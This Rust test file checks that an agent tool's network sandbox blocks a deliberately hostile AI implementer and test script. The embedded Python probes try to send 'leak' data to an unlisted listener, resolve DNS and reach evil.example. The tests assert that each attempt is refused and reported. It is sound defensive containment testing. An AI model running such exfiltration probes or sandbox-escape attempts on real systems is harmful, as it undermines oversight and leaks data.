//! Egress, tried as an attacker would: under `[sandbox] mode = "required"` an agent reaches its
//! model endpoint and nothing else, a check reaches nothing, a setup its package index. A
//! hostile implementer and a hostile test try a listener on 127.0.0.1 that is not in the policy
//! (raw TCP and through the proxy), DNS, and an HTTPS `CONNECT` to a host not in the policy:
//! the listener hears nothing, each refusal through the proxy is counted and reported (the
//! run report, the pull request), and the model server in the policy answers. The implementer
//! reports what it saw on the pushed branch, a channel it has.

use crate::common::script;
use crate::compete::{run, Repo, Setup};
use crate::security::bubblewrap_and_python;
use std::io::{Read, Write};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;

/// A local HTTP server answering `body` to every request, counting its connections.
pub(crate) fn server(body: &'static str) -> (u16, Arc<AtomicUsize>) {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let count = Arc::new(AtomicUsize::new(0));
    let c = count.clone();
    std::thread::spawn(move || {
        for conn in listener.incoming().flatten() {
            c.fetch_add(1, Ordering::SeqCst);
            let mut conn = conn;
            let _ = conn.set_read_timeout(Some(std::time::Duration::from_secs(5)));
            let mut buf = [0u8; 4096];
            let _ = conn.read(&mut buf);
            let _ = write!(
                conn,
                "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                body.len()
            );
        }
    });
    (port, count)
}

/// Python that tries every way out and prints one line per try.
fn probes(listener: u16, model: u16) -> String {
    format!(
        r#"import os, socket, urllib.request
def tcp():
    try:
        socket.create_connection(("127.0.0.1", {listener}), 3).sendall(b"leak")
        return "reached"
    except OSError as e:
        return "refused (" + type(e).__name__ + ")"
def dns():
    try:
        socket.getaddrinfo("example.com", 443)
        return "resolved"
    except OSError as e:
        return "failed (" + type(e).__name__ + ")"
def get(url):
    try:
        return urllib.request.urlopen(url, timeout=10).read().decode()
    except Exception as e:
        return "refused (" + str(getattr(e, "code", type(e).__name__)) + ")"
print("tcp-listener:", tcp())
print("dns:", dns())
print("connect-evil:", get("https://evil.example/"))
print("proxy-listener:", get("http://127.0.0.1:{listener}/leak"))
print("model:", get("http://127.0.0.1:{model}/v1/messages"))
"#
    )
}

#[test]
fn an_agent_reaches_its_model_a_check_nothing_and_every_refusal_is_reported() {
    if let Err(why) = bubblewrap_and_python() {
        eprintln!("skipped: {why}");
        return;
    }
    let (listener, heard) = server("stolen");
    let (model, asked) = server("model says hi");
    let probe = probes(listener, model);
    let implementer = format!(
        "cat > /dev/null\npython3 - > net-report.txt <<'PY'\n{probe}PY\ncat >> test.sh <<'TEST'\npython3 - > /dev/null 2>&1 <<'PY' || true\n{probe}PY\nTEST\necho 'greet() {{ echo \"Hello, $1!\"; }}' >> lib.sh\necho '{{\"summary\":\"added greet\",\"checkboxes_completed\":[\"req_1\"]}}'\n"
    );
    let sandbox = format!(
        "[sandbox]\nmode = \"required\"\n[sandbox.network]\nagents_allow = [\"127.0.0.1:{model}\"]\n"
    );
    let repo = Repo::with(Setup {
        implementer: &implementer,
        sandbox: Some(&sandbox),
        ..Setup::default()
    });
    // ralph's own temporary folders (the sandbox's, the network gates') go when it exits.
    let tmp = tempfile::tempdir().unwrap();
    let out = run(repo
        .ralph()
        .env("TMPDIR", tmp.path())
        .args(["compete", "3", "--json"]));
    assert_eq!(out.code, 0, "{}", out.stderr);
    let report: serde_json::Value = serde_json::from_str(&out.stdout).unwrap();
    assert_eq!(report["outcome"], "complete", "{report}");
    let left: Vec<String> = std::fs::read_dir(tmp.path())
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with("ralph-"))
        .collect();
    assert_eq!(left, Vec::<String>::new(), "left in the temporary folder");

    // What the implementer saw, from the pushed branch.
    let seen = crate::common::git(
        &repo.remote,
        &["show", "ralph/3-add-a-greet-function:net-report.txt"],
    );
    assert!(seen.contains("tcp-listener: refused"), "{seen}");
    assert!(seen.contains("dns: failed"), "{seen}");
    assert!(seen.contains("connect-evil: refused"), "{seen}");
    assert!(seen.contains("proxy-listener: refused (403)"), "{seen}");
    assert!(seen.contains("model: model says hi"), "{seen}");
    assert!(asked.load(Ordering::SeqCst) >= 1);
    // Nothing reached the listener, from the agent or the check.
    assert_eq!(heard.load(Ordering::SeqCst), 0, "the listener was reached");

    // Every refusal through the proxy, counted by who and where.
    let refused = report["network_refused"].to_string();
    for expected in [
        "\"host\":\"evil.example\",\"kind\":\"agent\"",
        &format!("\"host\":\"127.0.0.1\",\"kind\":\"agent\",\"port\":{listener}"),
        "\"by\":\"check test\",\"count\":1,\"host\":\"evil.example\",\"kind\":\"check\"",
        &format!("\"host\":\"127.0.0.1\",\"kind\":\"check\",\"port\":{model}"),
    ] {
        assert!(refused.contains(expected), "{expected}: {refused}");
    }
    let pr = std::fs::read_to_string(repo.root.join(".ralph/issues/3.pr-4.md")).unwrap();
    assert!(
        pr.contains("- blocked: 1 connection to evil.example:443 from implement"),
        "{pr}"
    );
    assert!(out.stderr.contains("network: blocked"), "{}", out.stderr);
}

#[test]
fn a_setup_reaches_the_index_in_its_policy_and_is_refused_one_outside_it() {
    if let Err(why) = bubblewrap_and_python() {
        eprintln!("skipped: {why}");
        return;
    }
    let (index, served) = server("package-1.0");
    let (other, _) = server("package-2.0");
    let fetch = |port: u16| {
        format!(
            "[checks]\nsyntax = \"sh -n lib.sh\"\ntest = \"sh test.sh\"\nsetup = \"python3 -c 'import urllib.request; print(urllib.request.urlopen(\\\"http://127.0.0.1:{port}/simple/\\\").read().decode())'\"\n"
        )
    };
    let sandbox = format!(
        "[sandbox]\nmode = \"required\"\n[sandbox.network]\nsetup_allow = [\"127.0.0.1:{index}\"]\n"
    );
    let allowed = fetch(index);
    let repo = Repo::with(Setup {
        checks: &allowed,
        sandbox: Some(&sandbox),
        ..Setup::default()
    });
    let out = run(repo.ralph().args(["compete", "3", "--json"]));
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(
        served.load(Ordering::SeqCst) >= 1,
        "the index in the policy served"
    );

    let refused = fetch(other);
    let repo = Repo::with(Setup {
        checks: &refused,
        sandbox: Some(&sandbox),
        ..Setup::default()
    });
    let out = run(repo.ralph().args(["compete", "3"]));
    assert_eq!(out.code, 2, "{}", out.stderr);
    assert!(
        out.stderr.contains("the worktree's environment could not be made")
            && out.stderr.contains("HTTP Error 403")
            && out.stderr.contains(&format!(
                "the sandbox refused its connection(s) to 127.0.0.1:{other}: not in the setup network policy (`[sandbox.network] setup_allow` adds a host)"
            )),
        "{}",
        out.stderr
    );
    let _ = script;
}
